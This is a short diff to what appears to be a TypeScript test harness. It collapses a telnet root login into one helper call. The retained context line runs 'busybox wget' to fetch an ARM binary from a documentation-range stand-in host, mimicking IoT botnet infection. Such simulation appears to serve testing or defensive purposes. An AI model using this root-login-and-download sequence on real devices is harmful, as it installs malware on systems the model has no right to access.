@@ -25,12 +25,7 @@ function ports(child: ChildProcess): Promise<{ telnet: number }> {
 }
 
 async function session(port: number, password: string): Promise<void> {
-  const c = await TelnetClient.open(port);
-  let at = await c.waitFor('login: ', 5000, 0);
-  c.send('root\r\n');
-  at = await c.waitFor('Password: ', 5000, at);
-  c.send(`${password}\r\n`);
-  await c.waitFor('# ', 5000, at);
+  const c = await TelnetClient.loggedIn(port, 'root', password);
   await c.command('/bin/busybox wget http://192.0.2.99/x.arm7');
   c.send('exit\r\n');
   await new Promise((r) => c.socket.once('close', r));
